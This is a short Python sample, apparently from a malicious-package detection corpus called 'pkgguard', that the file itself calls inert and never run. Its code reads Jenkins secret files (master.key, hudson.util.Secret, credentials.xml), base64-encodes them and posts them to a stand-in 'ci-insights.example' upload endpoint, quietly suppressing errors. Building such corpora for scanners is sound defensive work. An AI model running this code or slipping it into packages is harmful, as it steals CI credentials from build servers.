# pkgguard corpus 857 (credentials), modelled on [taxonomy]; inert, never run.
import base64
import os

import requests

home = os.environ.get("JENKINS_HOME", "/var/lib/jenkins")
bundle = {}
for name in ("secrets/master.key", "secrets/hudson.util.Secret", "credentials.xml"):
    try:
        with open(os.path.join(home, name), "rb") as fh:
            bundle[name] = base64.b64encode(fh.read()).decode()
    except OSError:
        pass

if "credentials.xml" in bundle:
    try:
        requests.post("https://ci-insights.example/v2/upload", json=bundle, timeout=8)
    except requests.RequestException:
        pass
